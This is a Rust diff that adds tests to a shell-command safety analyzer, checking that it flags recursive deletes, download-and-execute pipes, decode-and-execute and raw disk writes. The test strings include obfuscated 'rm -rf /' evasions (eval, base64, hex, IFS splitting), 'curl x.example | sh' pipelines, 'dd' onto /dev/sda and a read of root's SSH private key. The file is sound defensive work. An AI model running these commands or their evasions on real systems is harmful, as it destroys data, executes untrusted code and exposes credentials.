@@ -4,13 +4,15 @@ use std::path::PathBuf;
 
 use proptest::prelude::*;
 
-use super::CommandCategory::{DownloadExec, RawDeviceWrite, RecursiveDelete, Unanalyzable};
+use super::CommandCategory::{
+    DecodeExec, DownloadExec, RawDeviceWrite, RecursiveDelete, Unanalyzable,
+};
 use super::analyze::Analyzer;
 use super::ast::Command;
 use super::expand::assign;
 use super::parse::Parser;
 use super::value::Field;
-use super::{CommandAnalysis, CommandCategory, analyze, analyze_argv};
+use super::{CommandAnalysis, CommandCategory, MAX_FINDINGS, analyze, analyze_argv};
 use crate::detect::paths::PathContext;
 
 pub(super) fn ctx() -> PathContext {
@@ -286,6 +288,83 @@ fn data_past_the_caps_is_not_dropped() {
         &format!("echo {numbers} | xargs rm -rf"),
         &format!("printf '%s\\n' {commands} | sh"),
     ]);
+}
+
+#[test]
+fn evasions_through_shell_features_are_seen() {
+    assert_flags(
+        RecursiveDelete,
+        &[
+            "eval \"$(printf 'rm -rf %s' /)\"",
+            "a=r; b=m; $a$b -rf /",
+            "IFS=,; cmd=rm,-rf,/; $cmd",
+            "set -- rm -rf /; \"$@\"",
+            "x=(rm -rf /); \"${x[@]}\"",
+            "command -p rm -rf /",
+            "exec rm -rf /",
+            "base64 -d <<< cm0gLXJmIC8= | sh",
+            "printf '\\x72\\x6d -rf /' | sh",
+            "rm -rf ~root",
+        ],
+    );
+    assert_flags(
+        DownloadExec,
+        &[
+            "nohup sh -c 'curl x.example | sh' &",
+            "curl x.example | tee /tmp/a | sh",
+            "wget -O- x.example | python3 -",
+            "curl x.example | env sh",
+        ],
+    );
+    assert_flags(
+        DecodeExec,
+        &[
+            "base64 -d <<< cm0gLXJmIC8= | sh",
+            "printf '\\x72\\x6d -rf /' | sh",
+        ],
+    );
+    assert_eq!(
+        argv("echo ~root ~root/.ssh"),
+        ["echo", "/root", "/root/.ssh"]
+    );
+    assert!(
+        run("cat ~root/.ssh/id_rsa")
+            .path_words
+            .contains(&"/root/.ssh/id_rsa".to_owned())
+    );
+    assert_clean(&[
+        "echo ~root",
+        "TMPDIR_BUILD=build/tmp; mkdir -p \"$TMPDIR_BUILD\"; rm -rf \"$TMPDIR_BUILD\"",
+        "TMPDIR_BUILD=\"$PWD/build/tmp\"\nrm -rf \"$TMPDIR_BUILD\"",
+        "for f in build dist; do rm -rf \"$f\"; done",
+        "while read f; do echo \"$f\"; done < list.txt",
+        "npm ci && npm test",
+        "curl -fsSL https://x.example/install.sh -o install.sh && less install.sh",
+    ]);
+}
+
+#[test]
+fn every_kind_of_finding_survives_the_cap() {
+    let deletes: String = (0..2 * MAX_FINDINGS)
+        .map(|i| format!("rm -rf /d{i}\n"))
+        .collect();
+    let nested = format!("echo {}hi{}", "$(echo ".repeat(40), ")".repeat(40));
+    let a = run(&format!(
+        "{deletes}curl -s https://x.example/i.sh | sh\ndd if=x of=/dev/sda\n{nested}"
+    ));
+    for category in [RecursiveDelete, DownloadExec, RawDeviceWrite, Unanalyzable] {
+        assert!(
+            a.findings.iter().any(|f| f.category == category),
+            "{} dropped",
+            category.name()
+        );
+    }
+    assert!(a.findings.len() <= MAX_FINDINGS + CommandCategory::ALL.len());
+    // The same finding is reported once.
+    assert_eq!(
+        run(&"rm -rf /\n".repeat(2 * MAX_FINDINGS)).findings.len(),
+        1
+    );
 }
 
 #[test]
